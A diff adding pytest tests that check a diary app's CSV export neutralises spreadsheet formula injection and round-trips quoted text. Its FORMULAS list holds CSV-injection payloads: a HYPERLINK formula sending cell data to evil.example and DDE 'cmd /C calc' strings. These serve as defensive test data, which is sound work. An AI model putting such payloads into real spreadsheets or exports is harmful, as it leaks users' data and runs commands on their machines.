@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 
 import pytest
 from hypothesis import given, settings
@@ -76,3 +78,49 @@ def test_import_plan_counts_new_changed_and_unchanged_days(store):
     assert (len(plan.new), len(plan.changed), plan.unchanged) == (1, 1, 1)
     assert plan.describe(done=False) == ("Would add 1 day and replace 1 day; 1 day already the "
                                          "same. Nothing was written (dry run).")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
+
+
+def _cells(data: bytes) -> list[dict[str, str]]:
+    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_export_writes_text_that_could_be_a_formula_as_text(formula):
+    day = Entry(dt.date(2024, 1, 1), pain=3, notes=formula, tags=("=1+1", "flare"),
+                activities=(Activity("@home", 5),))
+    data = export_bytes([day], "csv")
+    [cells] = _cells(data)
+    assert cells["notes"] == "'" + formula
+    assert cells["tags"] == "'=1+1; flare"
+    assert cells["activities"] == "'@home:5"
+    assert (cells["pain"], cells["activity_minutes"]) == ("3", "5")  # numbers are left alone
+    assert read_entries(data, "csv") == [day]
+
+
+QUOTED = [
+    Entry(dt.date(2024, 1, 1), notes="'=x", tags=("'a", "b")),
+    Entry(dt.date(2024, 1, 2), notes="'hello", activities=(Activity("'x", 5),)),
+    Entry(dt.date(2024, 1, 3), notes="''", tags=("=b",)),
+    Entry(dt.date(2024, 1, 4), notes="hello 'world'", tags=("plain",)),
+]
+
+
+def test_a_leading_quote_is_marked_too_so_every_text_round_trips_byte_for_byte():
+    first = export_bytes(QUOTED, "csv")
+    assert [(c["notes"], c["tags"], c["activities"]) for c in _cells(first)] == [
+        ("''=x", "''a; b", ""), ("''hello", "", "''x:5"), ("'''", "'=b", ""),
+        ("hello 'world'", "plain", "")]
+    again = read_entries(first, "csv")
+    assert again == QUOTED
+    assert export_bytes(again, "csv") == first
+
+
+def test_a_spreadsheet_text_mark_is_removed_on_import():
+    data = "date,tags,notes\n2024-01-01,'=a; b,'+1\n2024-01-02,plain,'plain\n"
+    got = read_entries(data.encode(), "csv")
+    assert [(e.tags, e.notes) for e in got] == [(("=a", "b"), "+1"), (("plain",), "plain")]
